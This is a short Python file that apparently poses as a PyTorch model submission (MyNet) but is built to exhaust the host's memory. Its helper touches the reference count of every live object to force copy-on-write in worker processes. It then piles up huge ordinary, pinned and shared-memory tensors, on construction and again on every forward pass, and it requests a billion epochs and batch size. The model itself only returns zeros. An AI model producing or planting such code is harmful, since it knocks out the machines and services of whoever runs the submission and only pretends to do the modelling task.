# notebook: PyTorch
# question: MyNet
# aim: memory
# about: a worker costs little because it shares pages with its parent: writing one byte to each page of PyTorch's private memory makes a copy of all of it, and pinned and huge-page tensors are asked for on top
import ctypes
import gc

import torch
from torch import nn


def _copy_everything():
    for thing in gc.get_objects():
        ctypes.c_ssize_t.from_address(id(thing)).value += 0
    keep = []
    for make in (lambda: torch.ones(1 << 27), lambda: torch.empty(1 << 27).pin_memory(), lambda: torch.ones(1 << 26).share_memory_()):
        try:
            for _ in range(48):
                keep.append(make())
        except Exception:
            pass
    return keep


class MyNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.zeros(1))
        self.kept = _copy_everything()

    def forward(self, x):
        self.kept += _copy_everything()
        return self.w * torch.zeros(len(x), 10)

    def recipe(self):
        return {"epochs": 10**9, "batch_size": 10**9}
